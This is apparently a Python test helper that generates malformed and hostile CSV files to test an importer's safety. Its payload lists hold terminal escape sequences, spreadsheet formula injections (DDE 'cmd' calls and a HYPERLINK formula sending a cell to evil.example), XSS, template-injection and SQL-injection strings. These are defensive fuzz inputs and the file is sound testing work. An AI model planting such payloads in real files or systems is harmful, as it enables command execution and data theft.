"""Hostile files, made from a plain list of any kind. `python -m tests.safety.hostile FOLDER` writes them to look at."""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator
from pathlib import Path

ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "title of the window": "\x1b]0;owned\x07",
    "clear the screen": "\x1b[2J\x1b[H",
    "eight-bit control": "\x9b2J\x9d0;owned\x9c",
    "backwards": "invoice\u202egnp.exe",
    "isolate": "\u2066\u2067abc\u2069",
    "bell and back space": "a\x07b\x08c\x7fd",
    "link": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "answers typed for you": "\x1b[6n\x1bP$q\x1b\\",
    "line separator": "a\u2028b\u2029c\x85d",
}
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "\uff1d1+1",
    " =1+1",
    "%0A=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "</style><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}${7*7}",
    "<!--",
    "]]>",
    "&lt;b&gt;&amp;amp;",
    "|pipe|`code`**bold**[x](javascript:alert(1))",
    "[bold red]rich[/bold red]",
)
ODD = (
    *("1e999", "nan", "-inf", "0x10", "٣٤", "²", "9" * 400, "-0", "1" * 19, "1_000", "½", "1e-400"),
    *("9999-12-31", "0001-01-01", "2026-02-30", "99999999999999", "24:00", "2026-02-28T25:61:61Z", "now", "yesterday"),
    *("2026-03-08 02:30", "0000-00-00", "-1", "32/13/2026", "\u00a0\u200b", "\ufeff", "\u0301" * 50, "İ" * 30),
    *("a\r\nb", "*", "-", "..", "a@b@c", "@" * 300, "+" + "1" * 60, "'", "''; drop table lead; --", "%s%n", "\\"),
    *("null", "None", "N/A", "true", "ﬁ", "ß" * 100, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff"),
)
CELLS = (*ESCAPES.values(), *FORMULAS, *MARKUP, *ODD)


def line(cells: list[str], delimiter: str = ",", end: str = "\n") -> str:
    """Return one row as CSV."""
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator=end).writerow(cells)
    return text.getvalue()


def table(plain: str) -> tuple[list[str], list[list[str]]]:
    """Return (header, rows) of a plain list."""
    header, *rows = csv.reader(io.StringIO(plain))
    return header, rows


def cells_everywhere(plain: str) -> Iterator[tuple[str, bytes]]:
    """Yield one file per column, in which that column holds every hostile cell in turn."""
    header, rows = table(plain)
    for at, name in enumerate(header):
        body = [[*rows[0][:at], cell, *rows[0][at + 1 :]] for cell in CELLS]
        yield f"hostile cells in {name}", (line(header) + "".join(map(line, body))).encode()


def headers(plain: str) -> Iterator[tuple[str, bytes]]:
    """Yield files whose header line is hostile."""
    header, rows = table(plain)
    body = "".join(map(line, rows))
    for cell in (*ESCAPES.values(), *FORMULAS, *MARKUP, "", " ", "x" * 5_000):
        yield f"header {cell[:20]!r}", (line([header[0] + cell, *header[1:], cell]) + _wider(rows, "x")).encode()
    yield "duplicate headers", (line([*header, *header]) + "".join(line(r + r) for r in rows)).encode()
    yield "one header for all", (line(["Name"] * len(header)) + body).encode()
    yield "empty headers", (line([""] * len(header)) + body).encode()
    yield "header only", line(header).encode()
    yield "header twice", (line(header) * 2 + body).encode()
    yield "no header", body.encode()
    yield "header without its line end", line(header).rstrip().encode()


def _wider(rows: list[list[str]], cell: str) -> str:
    return "".join(line([*row, cell]) for row in rows)


def bytes_of(plain: str) -> Iterator[tuple[str, bytes]]:
    """Yield files whose bytes are not what they should be."""
    header, rows = table(plain)
    whole = plain.encode()
    yield "empty", b""
    yield "blank lines", b"\n\r\n\n"
    yield "only a byte order mark", b"\xef\xbb\xbf"
    yield "only zero bytes", b"\0" * 100
    yield "every byte", bytes(range(256)) * 8
    yield "a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
    yield "an archive", b"PK\x03\x04" + bytes(range(256)) * 4
    yield "zero byte in a row", whole + line(["a\0b", *rows[0][1:]]).encode()
    yield "zero byte in the header", whole.replace(b",", b",\0", 1)
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "cp1252", "cp037", "utf-7"):
        yield f"as {codec}", plain.encode(codec)
    yield "two encodings in one", whole + line(["Jürgen", *rows[0][1:]]).encode("cp1252")
    yield "half a letter at the end", whole + "é".encode()[:1]
    yield "surrogates", whole + b"\xed\xa0\x80\xed\xb0\x80" + b"," * (len(header) - 1) + b"\n"
    yield "half of utf-16", plain.encode("utf-16")[:-1]


def shapes(plain: str) -> Iterator[tuple[str, bytes]]:
    """Yield files whose rows, quotes and line ends are not in order."""
    header, rows = table(plain)
    row = line(rows[0])
    ends = ["\n", "\r\n", "\r", "\n\r", "\v", "\f", "\x1c", "\u2028", "\x85"]
    mixed = line(header) + "".join(row.rstrip() + end for end in ends)
    yield "mixed line ends", mixed.encode()
    yield "a quote without its other half", (plain + '"' + row).encode()
    yield "quotes inside", (plain + row.replace(",", '"," "', 1)).encode()
    yield "quote at the end of the file", (plain + row.rstrip() + ',"').encode()
    yield "nothing but quotes", b'"' * 3_001
    yield "too few cells", (plain + line(rows[0][:1])).encode()
    yield "too many cells", (plain + line([*rows[0], "more", "and more"])).encode()
    yield "only delimiters", (plain + "," * 2_000 + "\n").encode()
    for delimiter in ";\t|":
        text = line(header, delimiter) + line(rows[0], delimiter)
        yield f"delimiter {delimiter!r}", text.encode()
        yield f"delimiters mixed {delimiter!r}", (line(header) + line(rows[0], delimiter)).encode()
    yield "a separator line", ("sep=;\n" + line(header, ";") + line(rows[0], ";")).encode()
    yield "a title above", ("List of our best\n\n" + plain).encode()
    yield "10,000 columns", (line([f"c{n}" for n in range(10_000)]) + line(["x"] * 10_000)).encode()
    yield "a cell of 200,000 letters", (plain + line(["x" * 200_000, *rows[0][1:]])).encode()
    yield "a cell of 20,000 lines", (plain + line(["a\n" * 20_000, *rows[0][1:]])).encode()
    yield "the same row a thousand times", (line(header) + row * 1_000).encode()


def files(plain: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, bytes) of every hostile file made from a plain list."""
    for some in (cells_everywhere, headers, bytes_of, shapes):
        yield from some(plain)


if __name__ == "__main__":
    from tests.safety.importer import PLAIN

    folder = Path(sys.argv[1])
    folder.mkdir(exist_ok=True)
    for kind, plain in PLAIN.items():
        for number, (_, data) in enumerate(files(plain)):
            (folder / f"{kind}-{number:03}.csv").write_bytes(data)
